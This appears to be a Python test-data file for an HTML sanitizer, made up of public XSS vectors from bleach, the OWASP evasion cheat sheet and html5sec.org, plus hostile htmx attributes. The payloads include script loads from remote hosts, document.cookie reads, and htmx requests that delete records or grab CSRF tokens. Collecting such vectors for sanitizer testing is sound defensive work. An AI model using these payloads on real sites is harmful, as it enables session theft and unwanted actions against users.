"""Hostile HTML for the sanitizer and the HTML paste path.

Public test vectors, written out as data: bleach's own test suite (tests/test_clean.py), the
OWASP XSS Filter Evasion Cheat Sheet, html5sec.org (the HTML5 Security Cheatsheet, also used by
DOMPurify's tests), plus htmx attributes, which would make our htmx pages fire requests if any
survived. Each vector is what an attacker could paste; none may come out executable.
"""

# bleach tests/test_clean.py and tests/test_security.py
BLEACH = [
    "<script>safe()</script>",
    "<style>body{}</style>",
    '<a href="javascript:alert(1)">xss</a>',
    "<a href=\"javascript&#58;alert('XSS')\">xss</a>",
    "<a href=\"javascript&#x3A;alert('XSS')\">xss</a>",
    '<a href="jav&#x09;ascript:alert(1)">xss</a>',
    '<a href="jav&#x0A;ascript:alert(1)">xss</a>',
    '<a href="&#14;javascript:alert(1)">xss</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    "<a href=\"javascript:alert('XSS')\" onclick=\"alert('XSS')\">xss</a>",
    "<img src=\"javascript:alert('XSS');\">",
    "<img src=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    '<div style="background-image: url(javascript:alert(1))">styled</div>',
    '<p style="color: expression(alert(1))">ie</p>',
    "<scri<script>pt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    '<a href="#" onclick="alert(1)">x</a>',
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>"
    "</table></mtext></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<select><template><style><!--</style><a rel="--></style></template></select>'
    '<iframe onload=alert(1)>">',
    "<!--><script>alert(1)</script>-->",
    "<!-- comment --><p>after a comment</p>",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<a href="\x01javascript:alert(1)">ctrl</a>',
]

# OWASP XSS Filter Evasion Cheat Sheet
OWASP = [
    "<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp>"
    "<svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(42);//'>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    "<a onmouseover=alert(document.cookie)>xxs link</a>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114'
    "&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116"
    '&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;"
    "&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65"
    "&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<SCRIPT SRC=//xss.rocks/.j>",
    "<IMG SRC=\"`('XSS')\"",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    "\\\";alert('XSS');//",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<svg/onload=alert('XSS')>",
    "<BODY ONLOAD=alert('XSS')>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<BR SIZE=\"&{alert('XSS')}\">",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    '<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">',
    '<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>',
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>",
    "<STYLE>.XSS{background-image:url(\"javascript:alert('XSS')\");}</STYLE><A CLASS=XSS></A>",
    '<STYLE type="text/css">BODY{background:url("javascript:alert(\'XSS\')")}</STYLE>',
    '<XSS STYLE="behavior: url(xss.htc);">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,'
    'PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMD'
    'AvcmVzIiB0eXBlPSJ0ZXh0L2VjbWFzY3JpcHQiPmFsZXJ0KCJYU1MiKTs8L3NjcmlwdD48L3N2Zz4K" '
    'type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
    '<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
    '<SCRIPT "a=\'>\'" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
    '<A HREF="http://0x42.0x0000066.0x7.0x93/">XSS</A>',
    "<A HREF=\"javascript:document.location='http://www.google.com/'\">XSS</A>",
    '<A HREF="//www.google.com/">XSS</A>',
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061"
    "\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027"
    "\\0058.1053\\0053\\0027\\0029'\\0029\">",
]

# html5sec.org (HTML5 Security Cheatsheet)
HTML5SEC = [
    '<form id="test"></form><button form="test" formaction="javascript:alert(1)">X</button>',
    "<input onfocus=write(1) autofocus>",
    "<select onfocus=javascript:alert(1) autofocus>",
    "<textarea onfocus=alert(1) autofocus>",
    "<keygen onfocus=alert(1) autofocus>",
    '<video><source onerror="alert(1)">',
    "<video poster=javascript:alert(1)//></video>",
    "<audio src=x onerror=alert(1)>",
    "<body oninput=alert(1)><input autofocus>",
    "<frameset onload=alert(1)>",
    '<math href="javascript:javascript:alert(1)">CLICKME</math>',
    '<math><a xlink:href="javascript:alert(1)">click</a></math>',
    '<svg><a xlink:href="javascript:alert(1)"><rect width="1000" height="1000"/></a></svg>',
    '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
    '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
    '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
    '<iframe srcdoc="&lt;img src&equals;x:x onerror&equals;alert&lpar;1&rpar;&gt;"></iframe>',
    '<object data="javascript:alert(1)">',
    '<embed src="javascript:alert(1)">',
    "<isindex type=image src=1 onerror=alert(1)>",
    '<div draggable="true" ondragstart="alert(1)">drag</div>',
    '<details open ontoggle="alert(1)"><summary>x</summary></details>',
    '<marquee onstart="alert(1)">scroll</marquee>',
    '<a href="javascript&colon;alert(1)">entity colon</a>',
    '<a href="java&NewLine;script:alert(1)">newline entity</a>',
    '<a href="&#x6a;avascript:alert(1)">hex j</a>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<a href="https://example.com" target="_blank" style="position:fixed;top:0">overlay</a>',
    '<a href=" javascript:alert(1)">leading space</a>',
    '<a href="mailto:editor@example.com" onmouseover="alert(1)">mail</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<link rel="import" href="https://evil.example/x.html">',
]

# htmx: attributes that would make our htmx 2 pages issue requests or run code.
HTMX = [
    '<div hx-get="/admin/delete" hx-trigger="load">loads on sight</div>',
    '<p hx-post="/articles/1/delete" hx-trigger="load">posts on load</p>',
    '<a href="https://example.com" hx-get="/steal" hx-target="body">link</a>',
    '<span data-hx-get="/x" data-hx-trigger="load">data prefix</span>',
    '<button hx-on:click="alert(1)">click</button>',
    '<p hx-on::after-request="alert(document.cookie)">after request</p>',
    '<div hx-on="click: alert(1)">old syntax</div>',
    '<div hx-vals=\'js:{a: alert(1)}\' hx-post="/x" hx-trigger="load">vals</div>',
    '<div hx-headers=\'{"X-CSRFToken": "stolen"}\' hx-post="/x">headers</div>',
    '<form hx-post="/x" hx-trigger="load"><input name="a" value="b"></form>',
    '<p hx-swap-oob="true" id="messages">out of band</p>',
    '<strong hx-boost="true"><a href="/x">boosted</a></strong>',
    '<em data-hx-on:click="alert(1)">data on</em>',
    '<div hx-trigger="every 1s" hx-get="/poll">poll</div>',
    '<blockquote hx-include="[name=csrfmiddlewaretoken]" hx-post="/x">include</blockquote>',
]

VECTORS = BLEACH + OWASP + HTML5SEC + HTMX

# Vectors that put markup into text on purpose ("&lt;script&gt;" is prose, not a tag), so their
# extracted text may legitimately *show* tags; they are checked through the HTML outputs only.
TEXT_CARRIES_MARKUP = frozenset(
    {
        '<iframe srcdoc="&lt;img src&equals;x:x onerror&equals;alert&lpar;1&rpar;&gt;"></iframe>',
    }
)
